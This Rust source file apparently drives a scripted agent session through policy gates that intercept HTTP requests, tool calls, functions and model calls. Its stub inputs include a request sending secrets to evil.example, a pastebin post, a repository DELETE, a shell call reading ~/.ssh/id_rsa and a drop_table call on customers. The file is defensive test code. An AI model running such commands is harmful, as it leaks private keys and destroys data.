//! Scripted agent session run through every gate.
//!
//! The "agent" here is a fixed list of calls: outbound HTTP, tool runs,
//! framework functions and model invocations. Each call site has a stub
//! implementation; the gates decide whether the stub is reached.

use std::collections::HashMap;
use std::sync::Arc;

use serde_json::{json, Value};

use tollgate_contracts::{
    enforcement::EnforcementMode,
    error::{TollgateError, TollgateResult},
};
use tollgate_core::{
    enforcer::Enforcer,
    intercept::CallSite,
    traits::{EventSink, PolicyDecider},
};
use tollgate_intercept::{
    gate_function_map, http_interceptor, model_interceptor, tool_interceptor, ChatRequest, FunctionMap,
    HttpRequest, PiiRedactor, ToolCall,
};

#[derive(Debug, Default)]
pub struct Summary {
    pub passed: usize,
    pub blocked: usize,
}

impl Summary {
    fn record<T>(&mut self, label: &str, result: TollgateResult<T>) -> TollgateResult<()> {
        match result {
            Ok(_) => {
                self.passed += 1;
                println!("  [pass]   {}", label);
                Ok(())
            }
            Err(TollgateError::PolicyViolation { reason, .. }) => {
                self.blocked += 1;
                println!("  [block]  {}  ({})", label, reason);
                Ok(())
            }
            Err(other) => Err(other),
        }
    }
}

pub struct Scenario {
    enforcer: Arc<Enforcer>,
    redact: bool,
    exclude_patterns: Vec<String>,
}

impl Scenario {
    pub fn new(
        decider: Arc<dyn PolicyDecider>,
        sink: Arc<dyn EventSink>,
        mode: EnforcementMode,
        redact: bool,
        exclude_patterns: Vec<String>,
    ) -> Self {
        Self {
            enforcer: Arc::new(Enforcer::new(Some(decider), Some(sink), mode)),
            redact,
            exclude_patterns,
        }
    }

    pub fn run(&self) -> TollgateResult<Summary> {
        let mut summary = Summary::default();
        println!("Mode: {}", self.enforcer.mode());

        self.network(&mut summary)?;
        self.tools(&mut summary)?;
        self.functions(&mut summary)?;
        self.models(&mut summary)?;

        Ok(summary)
    }

    // ── Network ───────────────────────────────────────────────────────────────

    fn network(&self, summary: &mut Summary) -> TollgateResult<()> {
        println!("\nOutbound HTTP");
        let site = Arc::new(CallSite::new("http.send", |req: &HttpRequest| Ok(format!("200 {}", req.url))));
        let gate = http_interceptor(Arc::clone(&site), Arc::clone(&self.enforcer), &self.exclude_patterns)?;
        let _guard = gate.scoped()?;

        let requests = [
            HttpRequest::get("https://docs.rs/serde"),
            HttpRequest::post("https://pastebin.com/api/api_post.php"),
            HttpRequest::get("https://evil.example/collect?d=secrets"),
            HttpRequest::new("DELETE", "https://api.github.com/repos/acme/app"),
        ];
        for req in &requests {
            summary.record(&format!("{} {}", req.method, req.url), site.invoke(req))?;
        }
        Ok(())
    }

    // ── Tools ─────────────────────────────────────────────────────────────────

    fn tools(&self, summary: &mut Summary) -> TollgateResult<()> {
        println!("\nTool calls");
        let site = Arc::new(CallSite::new("tool.run", |call: &ToolCall| Ok(json!({"tool": call.name, "ok": true}))));
        let gate = tool_interceptor(Arc::clone(&site), Arc::clone(&self.enforcer));
        let _guard = gate.scoped()?;

        let calls = [
            ToolCall::new("web_search", json!({"q": "rust arc-swap"})),
            ToolCall::new("run_shell", json!({"cmd": "cat ~/.ssh/id_rsa"})),
            ToolCall::new("read_file", json!({"path": "README.md"})),
        ];
        for call in &calls {
            summary.record(&format!("tool {}", call.name), site.invoke(call))?;
        }
        Ok(())
    }

    // ── Framework functions ───────────────────────────────────────────────────

    fn functions(&self, summary: &mut Summary) -> TollgateResult<()> {
        println!("\nFramework functions (agent: researcher)");
        let mut functions: FunctionMap = HashMap::new();
        functions.insert(
            "summarize".into(),
            Arc::new(|args: &Value| -> TollgateResult<Value> { Ok(json!({"summary": args["text"]})) }),
        );
        functions.insert(
            "drop_table".into(),
            Arc::new(|args: &Value| -> TollgateResult<Value> { Ok(json!({"dropped": args["table"]})) }),
        );
        let gated = gate_function_map(Arc::clone(&self.enforcer), Some("researcher"), functions);

        let mut names: Vec<&String> = gated.keys().collect();
        names.sort();
        for name in names {
            let args = json!({"text": "quarterly numbers", "table": "customers"});
            summary.record(&format!("researcher/{}", name), gated[name](&args))?;
        }
        Ok(())
    }

    // ── Models ────────────────────────────────────────────────────────────────

    fn models(&self, summary: &mut Summary) -> TollgateResult<()> {
        println!("\nModel invocations");
        let site = Arc::new(CallSite::new("llm.chat", |req: &ChatRequest| Ok(canned_response(req))));
        let redactor = self.redact.then(PiiRedactor::new);
        let gate = model_interceptor(Arc::clone(&site), Arc::clone(&self.enforcer), redactor);
        let _guard = gate.scoped()?;

        let messages = json!([
            {"role": "user", "content": "Email the report to cfo@acme.example and list the server logs"}
        ]);
        let requests = [
            ChatRequest::new("anthropic", "claude-sonnet", messages.clone()),
            ChatRequest::new("anthropic", "claude-haiku", messages.clone()),
            ChatRequest::new("openai", "gpt-4o", messages),
        ];
        for req in &requests {
            summary.record(&format!("{}/{}", req.provider, req.model), site.invoke(req))?;
        }
        Ok(())
    }
}

/// `claude-haiku` answers with a shell tool request; everything else answers
/// in plain text.
fn canned_response(req: &ChatRequest) -> Value {
    if req.model == "claude-haiku" {
        json!({
            "content": [
                {"type": "text", "text": "I'll check the logs."},
                {"type": "tool_use", "id": "toolu_01", "name": "run_shell", "input": {"cmd": "tail /var/log/syslog"}}
            ]
        })
    } else {
        json!({"choices": [{"message": {"role": "assistant", "content": "Done."}}]})
    }
}
